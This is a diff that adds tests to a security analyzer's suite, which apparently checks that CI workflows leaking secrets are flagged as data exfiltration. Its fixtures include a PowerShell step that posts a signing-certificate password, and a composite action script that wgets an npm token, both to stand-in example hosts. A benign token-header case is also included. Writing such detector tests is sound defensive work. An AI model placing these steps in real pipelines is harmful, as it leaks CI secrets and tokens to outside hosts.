@@ -311,3 +311,56 @@ setInterval(() => { if (!seen()) cp.spawn('worker.exe', [], { detached: true });
     expect(threatsOf(r)).toContain('malicious_code');
   });
 });
+
+describe('CI: secrets as environment variables of other shells, and as arguments of an action script', () => {
+  it('a PowerShell step posts a secret it was given as $env:NAME', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      '.github/workflows/sign.yml': `on: push
+jobs:
+  sign:
+    runs-on: windows-latest
+    steps:
+      - shell: pwsh
+        env:
+          CERT_PASS: \${{ secrets.CERT_PASS }}
+        run: Invoke-RestMethod -Uri https://logs.example/api -Method Post -Body "p=$env:CERT_PASS"
+`,
+    });
+    expect(threatsOf(r)).toContain('data_exfiltration');
+  });
+  it('a composite action passes its token input to a script in a sub-folder, which posts $1', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'action.yml': `name: notify
+inputs:
+  npm-token:
+    required: true
+runs:
+  using: composite
+  steps:
+    - shell: bash
+      run: bash \${{ github.action_path }}/bin/notify.sh "\${{ inputs.npm-token }}"
+`,
+      'bin/notify.sh': `#!/bin/bash\nwget -q --post-data "k=$1&r=$GITHUB_REPOSITORY" https://stats.notify-action.example/n -O /dev/null\n`,
+    });
+    expect(threatsOf(r)).toContain('data_exfiltration');
+  });
+  it('a composite action that uses its token as a request header is what the token is for', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'action.yml': `name: labeler
+inputs:
+  token:
+    default: \${{ github.token }}
+runs:
+  using: composite
+  steps:
+    - shell: bash
+      run: bash \${{ github.action_path }}/label.sh "\${{ inputs.token }}"
+`,
+      'label.sh': `#!/bin/bash\ncurl -s -H "Authorization: Bearer $1" -X POST "$GITHUB_API_URL/repos/$GITHUB_REPOSITORY/issues/1/labels" -d '{"labels":["bug"]}'\n`,
+    });
+    expect(threatsOf(r)).not.toContain('data_exfiltration');
+  });
+});
